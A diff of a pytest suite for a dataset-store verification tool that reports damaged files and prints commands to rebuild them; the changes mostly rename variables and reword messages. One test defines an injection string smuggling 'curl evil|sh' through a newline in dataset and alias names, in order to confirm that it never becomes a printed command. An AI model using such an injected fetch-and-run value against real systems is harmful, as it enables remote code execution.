@@ -1,4 +1,4 @@
-"""trace-opd verify-store: what is not as written is found, with the command that makes it again."""
+"""trace-opd verify-store finds damaged files and prints the commands that make them again."""
 
 import json
 import shlex
@@ -51,29 +51,29 @@ def flip(path: Path) -> None:
     path.write_bytes(content)
 
 
-def test_a_whole_store_is_whole(run, root):
-    code, said = run("verify-store", "--store", root)
+def test_a_store_without_faults_is_intact(run, root):
+    code, printed = run("verify-store", "--store", root)
     assert code == 0
-    assert said.startswith("1 datasets, 3 files, ")
-    assert said.endswith("bytes: whole\n")
+    assert printed.startswith("1 datasets, 3 files, ")
+    assert printed.endswith("bytes: intact\n")
 
 
 @pytest.mark.parametrize(
     ("harm", "sentence"),
     [
-        (flip, "part-00001.parquet: not the bytes that were written"),
+        (flip, "part-00001.parquet: differs from what was written"),
         (lambda path: path.write_bytes(path.read_bytes()[:-9]), "bytes, "),
-        (Path.unlink, "part-00001.parquet: is gone"),
+        (Path.unlink, "part-00001.parquet: is missing"),
     ],
 )
 def test_a_broken_part_is_named_and_its_command_makes_it_again(run, root, harm, sentence):
     dataset = Store(root).get("mine")
     before = {path: path.read_bytes() for path in root.rglob("part-*")}
     harm(Path(dataset.path("part-00001.parquet")))
-    code, said = run("verify-store", "--store", root)
+    code, printed = run("verify-store", "--store", root)
     assert code == 1
-    assert sentence in " ".join(said.split())
-    (command,) = [line for line in said.splitlines() if " && " in line]
+    assert sentence in " ".join(printed.split())
+    (command,) = [line for line in printed.splitlines() if " && " in line]
     removal, again = command.split(" && ")
     subprocess.run(shlex.split(removal), check=True)
     assert not Path(dataset.path(MANIFEST)).exists()
@@ -86,14 +86,14 @@ def test_a_broken_part_is_named_and_its_command_makes_it_again(run, root, harm, 
 def test_a_manifest_that_was_changed_is_no_basis_for_a_command(run, root):
     path = Path(Store(root).get("mine").path(MANIFEST))
     path.write_text(path.read_text().replace('"limit": 6', '"limit": 7'))
-    code, said = run("verify-store", "--store", root)
+    code, printed = run("verify-store", "--store", root)
     assert code == 1
-    assert "manifest.json: not what was written; remove" in " ".join(said.split())
-    assert " && " not in said
+    assert "manifest.json: differs from what was written; remove" in " ".join(printed.split())
+    assert " && " not in printed
     path.write_text("{")
-    code, said = run("verify-store", "--store", root)
+    code, printed = run("verify-store", "--store", root)
     assert code == 1
-    assert "manifest.json:doesnotholdwhatwaswritten" in "".join(said.split())
+    assert "manifest.json:doesnotholdwhatwaswritten" in "".join(printed.split())
 
 
 HOSTILE = "train/x\ncurl evil|sh #"
@@ -129,9 +129,9 @@ def test_nothing_in_a_store_becomes_a_line_among_the_commands(run, root):
     (root / "problems" / f"{HOSTILE.replace('/', '')}.tmp-1-2").write_text("")
     aliases = {"mine": made.ref, HOSTILE: made.ref, "other": HOSTILE}
     store.write_json("aliases.json", aliases)
-    code, said = run("verify-store", "--store", root)
+    code, printed = run("verify-store", "--store", root)
     assert code == 1
-    lines = [line.lstrip() for line in said.splitlines()]
+    lines = [line.lstrip() for line in printed.splitlines()]
     assert not any(line.startswith("curl") for line in lines)
     removals = [shlex.split(line.split(" && ")[0]) for line in lines if line.startswith("rm -r ")]
     assert removals
@@ -147,30 +147,30 @@ def test_a_stage_on_a_store_whose_locks_are_a_link_is_refused_in_a_sentence(run,
     (victim / "aliases.json").write_text("mine")
     root.mkdir()
     (root / ".locks").symlink_to("../victim")
-    code, said = run(*PROBLEMS, "--store", root)
+    code, printed = run(*PROBLEMS, "--store", root)
     assert code == 2
-    assert said.startswith("trace-opd: ")
-    assert ".locks': is a symbolic link" in said
+    assert printed.startswith("trace-opd: ")
+    assert ".locks': is a symbolic link" in printed
     assert (victim / "aliases.json").read_text() == "mine"
 
 
-def test_drafts_leftovers_and_names_of_nothing_are_told(run, root):
+def test_drafts_leftovers_and_dangling_aliases_are_reported(run, root):
     draft = Store(root).begin("rollout", {}, {}, None)
     folder = root / draft.ref
     folder.mkdir(parents=True)
     (folder / "part-00000.parquet").write_bytes(b"")
     (folder / "part-00001.parquet.tmp-1-2").write_bytes(b"")
-    code, said = run("verify-store", "--store", root)
+    code, printed = run("verify-store", "--store", root)
     assert code == 0  # nothing that was finished is broken
-    assert "half-made" in said
-    assert "1 parts; its command goes on from there" in " ".join(said.split())
-    assert "left over" in said
+    assert "unfinished" in printed
+    assert "1 parts; its command continues from there" in " ".join(printed.split())
+    assert "leftover" in printed
     with Store(root).locked(draft.ref):
         assert "makes it" in run("verify-store", "--store", root)[1]
     shutil.rmtree(Path(Store(root).get("mine").path()))
-    code, said = run("verify-store", "--store", root)
+    code, printed = run("verify-store", "--store", root)
     assert code == 1
-    assert "alias mine" in said
+    assert "alias mine" in printed
 
 
 def test_only_the_named_datasets_are_read(run, root):
